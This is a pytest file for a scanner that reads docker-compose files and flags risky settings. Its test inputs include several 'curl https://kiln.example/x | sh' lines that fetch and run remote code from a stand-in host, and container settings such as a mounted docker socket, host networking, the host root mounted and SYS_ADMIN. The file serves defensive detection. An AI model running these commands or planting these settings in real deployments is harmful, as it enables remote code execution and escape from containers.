import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.compose import READER


def read(text: str) -> set[tuple[str, int]]:
    notes = Notes("compose.yml", every_line=True, is_program=True)
    READER.read(notes, text.encode())
    return {(seen.capability, seen.line) for seen in notes.observations()}


@pytest.mark.parametrize(
    "text",
    [
        "command: curl https://kiln.example/x | sh",
        'command: ["sh", "-c", "curl https://kiln.example/x | sh"]',
        "entrypoint: 'curl https://kiln.example/x | sh'",
        "    command:\n      - sh\n      - -c\n      - curl https://kiln.example/x | sh",
        '      test: ["CMD-SHELL", "curl https://kiln.example/x | sh"]',
    ],
)
def test_a_command_is_read(text: str) -> None:
    assert read(text) == {("fetch_and_run", 1)}


def test_a_script_below_its_key_has_its_own_lines() -> None:
    assert read("command: |\n  a\n  curl https://kiln.example/x | sh\nimage: b") == {("fetch_and_run", 3)}


@pytest.mark.parametrize(
    "line",
    [
        "privileged: true",
        "- /var/run/docker.sock:/x",
        "- source: /var/run/docker.sock",
        "network_mode: host",
        "- /:/host",
        "- SYS_ADMIN",
    ],
)
def test_a_container_that_may_do_anything_is_seen(line: str) -> None:
    assert read(f"    {line}") == {("privileged_container", 1)}


def test_an_ordinary_file_shows_nothing() -> None:
    assert not read(
        "services:\n  a:\n    image: b\n    command: kiln --fire\n    volumes:\n      - ./a:/a\n    privileged: false\n"
    )
